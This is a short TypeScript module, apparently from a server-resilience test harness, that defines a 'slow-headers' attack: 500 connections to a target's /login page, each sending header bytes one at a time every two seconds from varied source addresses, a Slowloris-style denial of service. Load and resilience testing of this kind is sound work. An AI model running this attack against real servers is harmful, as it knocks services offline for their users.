import type { Attack } from '../attack.ts'
import { addressIn } from '../http.ts'
import { holdConnections } from '../sockets.ts'

export const slowHeaders: Attack = {
  name: 'slow-headers',
  what: '500 requests whose headers come at one byte each 2 s',
  short: true,
  health: 'ready',
  pages: 'served',
  api: 'served',
  attack: async ({ url }, signal) => {
    const begin = `GET /login HTTP/1.1\r\nHost: ${new URL(url).host}\r\nX-Slow: `
    await holdConnections({ url, count: 500, from: (at) => addressIn(11, at % 20), begin, drip: 'abc' }, signal)
    return []
  },
}
